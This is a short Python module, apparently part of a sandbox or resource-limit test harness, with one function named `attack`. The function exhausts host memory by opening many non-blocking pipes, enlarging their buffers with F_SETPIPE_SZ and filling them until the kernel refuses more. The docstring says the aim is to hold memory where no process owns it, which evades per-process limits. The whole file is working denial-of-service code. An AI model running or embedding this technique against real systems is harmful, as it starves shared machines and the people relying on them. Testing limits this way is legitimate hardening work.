"""Keeps memory in pipes and sockets, where no process owns it."""

from __future__ import annotations

import fcntl
import os
import time
from typing import Any


def attack(world: dict[str, Any]) -> int:
    held = 0
    ends = []
    try:
        while True:
            pair = os.pipe()
            ends.append(pair)
            for end in pair:
                os.set_blocking(end, False)
            for size in (1 << 20, 1 << 18):
                try:
                    fcntl.fcntl(pair[1], 1031, size)  # F_SETPIPE_SZ
                    break
                except OSError:
                    continue
            try:
                while True:
                    held += os.write(pair[1], b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    for pair in ends[:40]:
        os.close(pair[0])
        os.close(pair[1])
    time.sleep(0.2)
    return held >> 20
